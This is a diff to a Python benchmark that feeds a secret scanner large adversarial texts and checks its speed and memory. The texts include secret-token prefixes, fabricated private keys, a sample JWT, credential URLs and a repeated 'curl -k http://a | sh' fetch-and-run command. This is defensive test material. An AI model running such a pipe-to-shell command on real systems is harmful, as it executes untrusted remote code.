@@ -1,63 +1,115 @@
 # SPDX-License-Identifier: Apache-2.0
 """Texts made to be slow: every one must run at 20 MB/s a core or more, in flat memory."""
+import base64
 import os
 import random
 import statistics
+import sys
 import tempfile
 
-from measure import VETO, Command, measure, size, verdict
+from measure import VETO, Command, measure, run_once, size, verdict
 
-random.seed(1)
 WORDS = ["password", "secret", "api_key", "access_token", "ghp_", "glpat-", "xoxb-", "AKIA", "sk_live_", "eyJ", "npm_",
          "AccountKey=", "postgres://", "-----BEGIN", "AIza", "SG.", "hf_", "token", "client_secret", "authorization"]
+LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
+
+# An Ed25519 key is any 32 bytes behind this; an RSA key is made of numbers that only look like one.
+ED25519 = bytes.fromhex("302e020100300506032b657004220420")
 
 
-def repeat(unit, length):
-    return (unit * (length // len(unit) + 1))[:length]
+def letters(count):
+    return "".join(random.choices(LETTERS, k=count))
 
 
-def keywords(length):
-    out = []
-    total = 0
-    while total < length:
-        word = random.choice(WORDS)
-        out.append(word)
-        total += len(word)
-    return "".join(out)[:length]
+def key(label, der):
+    return f"-----BEGIN {label}-----\n{base64.b64encode(der).decode()}\n-----END {label}-----\n"
 
 
+KEY = key("PRIVATE KEY", ED25519 + bytes(range(65, 97)))
+JWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhIn0." + "dozjgNryP4J3jVmNHl0w5N" + "_XgL0n3I9PlFUP0THsR8U"
+
+
+def repeat(unit):
+    return lambda length: (unit * (length // len(unit) + 1))[:length]
+
+
+def anew(make):
+    """Made again and again until it is long enough: nothing in it comes twice."""
+    def text(length):
+        out, total = [], 0
+        while total < length:
+            out.append(make())
+            total += len(out[-1])
+        return "".join(out)[:length]
+    return text
+
+
+# name of the set: how to make it, the file's name (some rules are for some kinds of files)
 SETS = {
-    "rule keywords end to end": keywords,
-    "api_key= repeated": lambda n: repeat("api_key=", n),
-    "a key header repeated": lambda n: repeat("-----BEGIN RSA PRIVATE KEY-----\n", n),
-    "a token prefix repeated": lambda n: repeat("ghp_", n),
-    "whole made-up tokens": lambda n: repeat("ghp_" + "0123456789abcdefghijklmnopqrstuvwxyz" + " ", n),
-    "eyJ repeated": lambda n: repeat("eyJ", n),
-    "eyJ and dots": lambda n: repeat("eyJhbGciOi.eyJ", n),
-    "url after url": lambda n: repeat("postgres://a:b@c ", n),
-    "one line of JSON": lambda n: "{" + repeat('"key": "value", ', n - 2) + "}",
+    "rule keywords end to end": (anew(lambda: random.choice(WORDS)), "a.txt"),
+    "api_key= repeated": (repeat("api_key="), "a.txt"),
+    "a key header repeated": (repeat("-----BEGIN RSA PRIVATE KEY-----\n"), "a.txt"),
+    "a key header in JSON": (repeat('"private_key": "-----BEGIN PRIVATE KEY-----\\n'), "a.json"),
+    "key headers and no end": (repeat("-----BEGIN RSA PRIVATE KEY-----\n" + "A" * 64 + "\n"), "a.txt"),
+    "one key repeated": (repeat(KEY), "a.txt"),
+    "keys": (anew(lambda: key("PRIVATE KEY", ED25519 + random.randbytes(32))), "a.txt"),
+    "damaged keys": (anew(lambda: key("RSA PRIVATE KEY", b"0.\2\1\0" + random.randbytes(43))), "a.txt"),
+    "a token prefix repeated": (repeat("ghp_"), "a.txt"),
+    "one made-up token repeated": (repeat("ghp_" + "0123456789abcdefghijklmnopqrstuvwxyz" + " "), "a.txt"),
+    "tokens with wrong checksums": (anew(lambda: "ghp_" + letters(36) + " "), "a.txt"),
+    "one access key id repeated": (repeat("AKIA" + "ABCDEFGHIJKLMNOP "), "a.txt"),
+    "one JWT repeated": (repeat(JWT + " "), "a.txt"),
+    "eyJ repeated": (repeat("eyJ"), "a.txt"),
+    "eyJ and dots": (repeat("eyJhbGciOi.eyJ"), "a.txt"),
+    "url after url": (repeat("postgres://a:b@c "), "a.txt"),
+    "urls with passwords": (anew(lambda: f"postgres://u:{letters(8)}@h "), "a.txt"),
+    "urls with short passwords": (anew(lambda: f"postgres://a:{letters(1)}@c "), "a.txt"),
+    "password= repeated": (repeat("password="), "a.txt"),
+    ";password=x repeated": (repeat(";password=x"), "a.txt"),
+    "one password in many lines": (repeat("PASSWORD=x\n"), ".env"),
+    "passwords in many lines": (anew(lambda: f"PASSWORD={letters(2)}\n"), ".env"),
+    "password: in YAML": (repeat("password: hunter2\n"), "a.yaml"),
+    "key: value in YAML": (repeat("key: value\n"), "a.yaml"),
+    "ENV PASSWORD=x": (repeat("ENV PASSWORD=x\n"), "Dockerfile"),
+    'a="x"; repeated': (repeat('a="x";'), "a.js"),
+    "assignments of secrets": (anew(lambda: f'secret="{letters(16)}";'), "a.js"),
+    "passwords in JSON": (repeat('"password": "value", '), "a.json"),
+    "quotes in quotes": (repeat("password='\"'\"'\""), "a.txt"),
+    "escaped quotes": (repeat('password=\\\\\\"'), "a.json"),
+    "blanks behind a name": (repeat("password" + " " * 200), "a.txt"),
+    "basic authorization": (repeat("Authorization: Basic YWRtaW46YWRtaW4= "), "a.txt"),
+    "curl -k | sh repeated": (repeat("curl -k http://a | sh; "), "a.sh"),
+    "base64, one line": (lambda n: base64.b64encode(random.randbytes(n * 3 // 4)).decode(), "a.txt"),
+    "hexadecimal, one line": (lambda n: random.randbytes(n // 2).hex(), "a.txt"),
+    "one line of JSON": (lambda n: "{" + repeat('"key": "value", ')(n - 2) + "}", "a.json"),
 }
 
 
-def run(name, make, length, folder):
-    path = os.path.join(folder, "hostile.txt")
+def run(name, length, folder, memory=True):
+    make, file = SETS[name]
+    path = os.path.join(folder, file)
+    random.seed(1)
     with open(path, "w") as out:
         out.write(make(length))
     command = Command(f"{name}, {length >> 20} MB", [VETO, "scan", "-q", "-j1", "--fail-on", "none", path])
-    measure([command], 3)
+    measure([command], 2)
+    # A run may be over before its memory was looked at often.
+    for _ in range(4 if memory and command.wall[0] < 0.1 else 0):
+        command.peak.append(run_once(command, True)[2])
     return command
 
 
 def main():
+    wanted = [name for name in SETS if all(word in name for word in sys.argv[1:])]
     print("hostile texts, one thread: MB/s and peak memory at 8 and 64 MB")
     with tempfile.TemporaryDirectory() as folder:
-        for name, make in SETS.items():
-            small, large = run(name, make, 8 << 20, folder), run(name, make, 64 << 20, folder)
+        for name in wanted:
+            small, large = run(name, 8 << 20, folder), run(name, 64 << 20, folder)
             rate = (64 << 20) / 1e6 / statistics.median(large.wall)
             print(f"  {name:<28} {rate:8.1f} MB/s   {size(max(small.peak)):>10} {size(max(large.peak)):>10}")
             verdict("speed", rate, 20, " MB/s", at_most=False)
             verdict("memory at 64 MB to that at 8 MB", max(large.peak) / max(1, max(small.peak)), 1.1, " ×")
-        line = run("one line of JSON", SETS["one line of JSON"], 100 << 20, folder)
+        line = run("one line of JSON", 100 << 20, folder, memory=False)
         verdict("100 MB of JSON in one line", (100 << 20) / 1e6 / statistics.median(line.wall), 20, " MB/s", at_most=False)
 
 
